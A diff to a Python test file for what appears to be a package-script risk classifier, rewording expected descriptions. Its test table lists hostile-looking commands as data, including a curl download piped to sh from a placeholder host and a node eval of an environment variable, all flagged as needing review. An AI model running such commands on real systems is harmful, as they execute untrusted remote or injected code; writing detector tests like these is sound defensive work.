@@ -50,17 +50,17 @@ TABLE: tuple[tuple[str, dict[str, str], str, bool], ...] = (
     (
         "node up.js",
         {"up.js": "require('fs').writeFileSync(__dirname + '/../other/lib.js', 'x');\n"},
-        "writes files in places that are not known",
+        "writes files of the package other",
         True,
     ),
     ("curl -s https://x.invalid/a | sh", {}, "", True),
     ("npm install left-pad", {}, "installs packages with npm", True),
     ("npx kite-setup", {}, "runs kite-setup with npx, which can download it", True),
     ("frobnicate --all", {}, "starts frobnicate", True),
-    ("cp a.txt b.txt", {}, "copies or removes files of its package", False),
-    ("cp a.txt ../b.txt", {}, "writes or removes files outside its package", True),
+    ("cp a.txt b.txt", {}, "copies files of its package", False),
+    ("cp a.txt ../b.txt", {}, "copies files outside its package: ../b.txt", True),
     ("cd .. && cp a.txt b.txt", {}, "", True),
-    ("node gone.js", {}, "unknown: runs gone.js, which is not in the package", True),
+    ("node gone.js", {}, "unknown: runs gone.js, which is not in the package (package.json:1)", True),
     ('node -e "eval(process.env.X)"', {}, "", True),
 )
 
@@ -119,7 +119,7 @@ https.get('https://files.release.invalid/tool', (answer) => {
 });
 """
     script = one("node get.js", {"get.js": code})
-    assert script.does.startswith("downloads files (files.release.invalid) and computes a hash")
+    assert script.does.startswith("downloads files from files.release.invalid, computes a hash")
     assert script.needs_person
 
 
